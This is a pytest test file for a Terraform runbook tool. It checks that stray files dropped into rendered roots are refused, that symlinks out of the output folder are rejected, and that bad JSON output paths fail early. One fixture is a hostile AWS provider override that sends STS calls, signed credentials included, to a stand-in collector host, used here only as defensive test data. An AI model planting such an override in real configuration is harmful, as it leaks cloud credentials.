"""Files dropped into a rendered root: Terraform would read them, so validation and the engine refuse them.

Every test renders the real tree (render_files + write_files) into tmp_path and drops
files beside it, as someone with write access to the output folder could.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from runbook_lib.engine import Engine, Settings
from runbook_lib.errors import ValidationFailed
from runbook_lib.render import render_files, write_files
from runbook_lib.results import Outcome
from runbook_lib.targets import make_target
from runbook_lib.validate import Status, check_unrendered, passed, validate_tree

from .conftest import needs_terraform

EXTRA_RESOURCE = 'resource "terraform_data" "extra" {}\n'
# Sends every AWS call of the root, AssumeRole signed with the caller's credentials included, elsewhere.
PROVIDER_OVERRIDE = 'provider "aws" {\n  endpoints {\n    sts = "https://collector.example.com"\n  }\n}\n'

# name in the root -> text; each is a file Terraform reads (or a folder it installs providers from)
STRAY = {
    "zz_extra.tf": EXTRA_RESOURCE,
    "zz_extra.tf.json": '{"resource": {"terraform_data": {"extra_json": {}}}}\n',
    "provider_override.tf": PROVIDER_OVERRIDE,
    "override.tf.json": '{"locals": {"x": 1}}\n',
    "extra.auto.tfvars": 'x = 1\n',
    "extra.auto.tfvars.json": '{"x": 1}\n',
    "terraform.tfvars": 'x = 1\n',
    "terraform.tfvars.json": '{"x": 1}\n',
    "prod.tfvars": 'x = 1\n',
    ".hidden.tf": EXTRA_RESOURCE,
}
# what Terraform itself, or the runbook, keeps in a root: never a finding
KEPT = [".terraform/terraform.tfstate", ".terraform/modules/modules.json", ".terraform.lock.hcl",
        "runbook.tfplan", ".terraform-runbook/terraform.rc", "notes.md", ".terraformrc"]


def _rendered(org, app, out: Path, target=None) -> dict[str, str]:
    files = render_files(org, app, target or make_target("live"))
    write_files(out, files)
    return files


def _drop(path: Path, text: str = "x\n") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.mark.parametrize("name", sorted(STRAY))
def test_each_file_terraform_would_read_is_named(org, apps, tmp_path, name):
    files = _rendered(org, apps["web"], tmp_path)
    _drop(tmp_path / "infra/ci/web" / name, STRAY[name])
    [finding] = check_unrendered(tmp_path, files)
    assert (finding.check, finding.subject, finding.status) == ("rendered files", "infra/ci/web", Status.FAIL)
    assert finding.detail == (f"not rendered by the runbook, but Terraform would read: {name}; "
                              "move them out of infra/ci/web or delete them")


def test_a_provider_folder_in_the_root_is_named(org, apps, tmp_path):
    files = _rendered(org, apps["web"], tmp_path)
    _drop(tmp_path / "infra/cd/web/terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64/x")
    [finding] = check_unrendered(tmp_path, files)
    assert finding.subject == "infra/cd/web" and "Terraform would read: terraform.d;" in finding.detail


def test_every_stray_file_in_every_root_is_listed(org, apps, tmp_path):
    files = _rendered(org, apps["web"], tmp_path)
    for name in ("zz_extra.tf", "provider_override.tf"):
        _drop(tmp_path / "infra/ci/web" / name)
    _drop(tmp_path / "infra/cicd-common/terraform.tfvars")
    findings = check_unrendered(tmp_path, files)
    assert [(f.subject, f.detail.split(": ", 1)[1].split(";")[0]) for f in findings] == [
        ("infra/ci/web", "provider_override.tf, zz_extra.tf"),
        ("infra/cicd-common", "terraform.tfvars"),
    ]


def test_what_terraform_and_the_runbook_keep_in_a_root_is_fine(org, apps, tmp_path):
    files = _rendered(org, apps["web"], tmp_path)
    for rel in KEPT:
        for root in ("infra/cicd-common", "infra/ci/web", "infra/cd/web"):
            _drop(tmp_path / root / rel)
    _drop(tmp_path / "infra/extra.tf")           # not a folder the runbook renders Terraform into
    _drop(tmp_path / "repositories/acme-co/web/codebuild/extra.tf")
    assert check_unrendered(tmp_path, files) == []


def test_run_root_refuses_a_root_with_stray_files_before_terraform_starts(org, apps, tmp_path):
    """A notebook validates in one cell and plans in a later one: files dropped in between are still refused."""
    _rendered(org, apps["web"], tmp_path)
    _drop(tmp_path / "infra/ci/web/provider_override.tf", PROVIDER_OVERRIDE)
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    lines: list[str] = []
    engine = Engine(Settings(org, apps["web"], target="live", out=tmp_path, auto_approve=False), sink=lines.append)
    result = engine.run_root("ci")
    assert (result.outcome, result.step) == (Outcome.FAILED, "init")
    assert "static validation failed; nothing was planned or applied" in result.reason
    assert "infra/ci/web: not rendered by the runbook, but Terraform would read: provider_override.tf" in result.reason
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before  # no .terraform, no CLI config
    assert lines == []
    with pytest.raises(ValidationFailed, match="provider_override.tf"):
        engine.unlock("ci/web", "0b8d6f1e-1111-2222-3333-444455556666")


@needs_terraform()
@pytest.mark.terraform
def test_runbook_validate_fails_and_prepare_plans_nothing(org, apps, tmp_path):
    target = make_target("live")
    _rendered(org, apps["web"], tmp_path)
    clean = validate_tree(org, apps["web"], target, tmp_path)
    assert passed(clean)
    _drop(tmp_path / "infra/ci/web/zz_extra.tf", EXTRA_RESOURCE)
    _drop(tmp_path / "infra/cd/web/provider_override.tf", PROVIDER_OVERRIDE)
    findings = validate_tree(org, apps["web"], target, tmp_path)
    failed = [f for f in findings if f.status is Status.FAIL]
    assert [(f.subject, "zz_extra.tf" in f.detail, "provider_override.tf" in f.detail) for f in failed] == [
        ("infra/cd/web", False, True), ("infra/ci/web", True, False)]
    assert len(findings) == len(clean) + 2   # a clean tree gets no extra row
    engine = Engine(Settings(org, apps["web"], target="live", out=tmp_path, auto_approve=False), sink=lambda _: None)
    with pytest.raises(ValidationFailed, match="nothing was planned or applied") as exc:
        engine.prepare()
    assert "zz_extra.tf" in str(exc.value) and "provider_override.tf" in str(exc.value)
    assert not (tmp_path / "infra/ci/web/.terraform").exists()


# -- runbook check --json: a path that cannot take the results is refused before any check ---------
def _check(tmp_path, monkeypatch, capsys, json_path) -> tuple[int, str]:
    """``runbook check`` on the sandbox target with no sandbox running: any check would fail on that."""
    from runbook_lib.cli import main
    from runbook_lib.sandbox import server

    empty = tmp_path / "no-sandbox"
    empty.mkdir()
    monkeypatch.setenv(server.SANDBOX_DIR_ENV, str(empty))
    code = main(["check", "--app", "parameters/apps/web.yaml", "--target", "sandbox", "--json", str(json_path)])
    err = capsys.readouterr().err
    assert list(empty.iterdir()) == []  # no sandbox was started
    return code, err


def test_check_json_to_a_folder_is_refused_before_the_checks(tmp_path, monkeypatch, capsys):
    folder = tmp_path / "results"
    folder.mkdir()
    code, err = _check(tmp_path, monkeypatch, capsys, folder)
    assert code == 2
    assert f"--json {folder} is a folder; give a file path such as {folder / 'checks.json'}. No check was run." in err
    assert "sandbox is not running" not in err and "Traceback" not in err
    assert list(folder.iterdir()) == []


def test_check_json_under_a_file_is_refused_before_the_checks(tmp_path, monkeypatch, capsys):
    (tmp_path / "file").write_text("x")
    code, err = _check(tmp_path, monkeypatch, capsys, tmp_path / "file" / "checks.json")
    assert code == 2
    assert f"cannot be written: {tmp_path / 'file'} is a file, not a folder. No check was run." in err
    assert "sandbox is not running" not in err
    assert (tmp_path / "file").read_text() == "x"


def test_check_json_in_a_read_only_folder_is_refused_before_the_checks(tmp_path, monkeypatch, capsys):
    import os

    if os.geteuid() == 0:
        pytest.skip("root can write to any folder")
    folder = tmp_path / "ro"
    folder.mkdir(mode=0o555)
    try:
        code, err = _check(tmp_path, monkeypatch, capsys, folder / "checks.json")
    finally:
        folder.chmod(0o755)
    assert code == 2 and f"permission denied on {folder}. No check was run." in err


def test_check_with_a_good_json_path_goes_on_to_the_checks(tmp_path, monkeypatch, capsys):
    """The control: the same command with a usable path reaches the sandbox, and writes no file."""
    target = tmp_path / "new" / "checks.json"
    code, err = _check(tmp_path, monkeypatch, capsys, target)
    assert code == 2 and "the sandbox is not running" in err
    assert not (tmp_path / "new").exists()


def test_a_json_path_that_goes_bad_during_the_checks_is_still_a_clear_error(tmp_path):
    """Checked before, but the folder can change while the checks run: the late write says so too."""
    from runbook_lib.cli import _write_json
    from runbook_lib.errors import RunbookError

    (tmp_path / "file").write_text("x")
    with pytest.raises(RunbookError, match=f"results above were not saved: cannot write {tmp_path / 'file'}"):
        _write_json(tmp_path / "file" / "checks.json", "{}")
    _write_json(tmp_path / "ok" / "checks.json", "{}")
    assert (tmp_path / "ok" / "checks.json").read_text() == "{}"
    assert [p.name for p in (tmp_path / "ok").iterdir()] == ["checks.json"]  # no temporary file left


@pytest.mark.parametrize("link", ["infra", "infra/ci/web/main.tf"], ids=["a-folder", "a-file"])
def test_render_never_writes_through_a_link_out_of_its_folder(org, apps, tmp_path, link):
    """Hostile: a symbolic link inside --out (a folder, or one rendered file) pointing elsewhere: refused, nothing written."""
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    elsewhere.mkdir()
    files = render_files(org, apps["web"], make_target("live"))
    (out / link).parent.mkdir(parents=True, exist_ok=True)
    (out / link).symlink_to(elsewhere if link == "infra" else elsewhere / "main.tf")
    with pytest.raises(Exception, match=f"{out / link} is a symbolic link .* never through a link out of it"):
        write_files(out, files)
    assert list(elsewhere.iterdir()) == []
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*")) == sorted(
        {link, *[Path(link).parents[i].as_posix() for i in range(len(Path(link).parts) - 1)]})
